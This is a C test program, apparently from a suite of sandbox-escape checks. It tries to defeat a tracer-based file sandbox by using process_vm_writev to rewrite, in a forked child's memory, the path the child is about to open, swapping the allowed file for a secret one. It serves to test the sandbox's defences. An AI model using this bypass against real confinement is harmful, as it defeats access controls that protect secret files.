/* e0509-vm-writev-sibling - change what a sibling is about to open, with
 * process_vm_writev.
 *
 * Attack: a child holds the allowed file's path in a buffer and, when
 * told, opens what the buffer names; before telling it, the program
 * writes the secret's path into that buffer with process_vm_writev.
 * (No race: the child's open names the secret when it is checked; the
 * attack is the cross-process write itself.)
 * Source: janus team (DESIGN.md "bypassing the tracer:
 * process_vm_writev into a sibling").
 * Usage: e0509-vm-writev-sibling ALLOWED SECRET */
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

static char path[PATH_MAX];

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0509-vm-writev-sibling ALLOWED SECRET");
	snprintf(path, sizeof path, "%s", argv[1]);
	int go[2];
	if (pipe(go) < 0)
		esc_die("pipe");
	fflush(NULL);
	pid_t pid = fork();
	if (pid < 0)
		esc_die("fork");
	if (pid == 0) {
		char c;
		close(go[1]);
		if (read(go[0], &c, 1) == 1)
			esc_try_read("child opens its buffer", path);
		_exit(0);
	}
	close(go[0]);
	struct iovec local = { argv[2], strlen(argv[2]) + 1 }, remote = { path, local.iov_len };
	esc_show_result("process_vm_writev into the child",
			process_vm_writev(pid, &local, 1, &remote, 1, 0));
	if (write(go[1], "g", 1) != 1)
		esc_die("write");
	waitpid(pid, NULL, 0);
	return 0;
}
